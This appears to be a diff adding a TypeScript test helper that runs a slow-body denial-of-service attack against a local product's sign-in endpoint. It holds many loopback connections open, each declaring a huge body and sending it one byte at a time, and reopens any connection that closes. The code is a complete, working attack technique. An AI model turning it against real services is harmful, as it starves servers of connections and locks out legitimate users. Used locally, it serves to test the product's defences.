@@ -1,0 +1,63 @@
+import { once } from 'node:events';
+import { connect, type Socket } from 'node:net';
+
+export interface SlowBodiesOptions {
+  /** How many there are at any time: one that was ended begins anew. */
+  bodies: number;
+  /** From how many addresses of this machine, 127.0.0.2 on; 250 at most. */
+  addresses: number;
+  /** The pause between one byte and the next. */
+  ms: number;
+}
+
+/**
+ * Attacks the product at `url` ('http://127.0.0.1:3000') with sign-ins whose bodies come byte by byte. Resolves once all
+ * of them have begun.
+ */
+export async function slowBodies(
+  url: string,
+  { bodies, addresses, ms }: SlowBodiesOptions,
+): Promise<{ close(): Promise<void> }> {
+  const open = new Set<Socket>();
+  let closing = false;
+  const begin = async (index: number): Promise<void> => {
+    const socket = await connected(url, `127.0.0.${2 + (index % addresses)}`);
+    open.add(socket);
+    socket.write(head(url));
+    const sending = setInterval(() => socket.write('x'), ms);
+    socket.once('close', () => {
+      clearInterval(sending);
+      open.delete(socket);
+      if (!closing) begin(index).catch(() => undefined); // The product was stopped before the attack was.
+    });
+  };
+  await Promise.all(Array.from({ length: bodies }, (_, index) => begin(index)));
+  return {
+    close: async () => {
+      closing = true;
+      const closed = [...open].map((socket) => once(socket, 'close'));
+      for (const socket of open) socket.resetAndDestroy();
+      await Promise.all(closed);
+    },
+  };
+}
+
+async function connected(url: string, localAddress: string): Promise<Socket> {
+  const socket = connect({ port: Number(new URL(url).port), host: '127.0.0.1', localAddress });
+  await once(socket, 'connect');
+  socket.on('error', () => undefined); // Being thrown out is what an attacker expects.
+  socket.resume();
+  return socket;
+}
+
+function head(url: string): string {
+  const { host, origin } = new URL(url);
+  return [
+    'POST /api/auth/login HTTP/1.1',
+    `host: ${host}`,
+    `origin: ${origin}`,
+    'content-type: application/json',
+    'content-length: 900000',
+    '\r\n',
+  ].join('\r\n');
+}
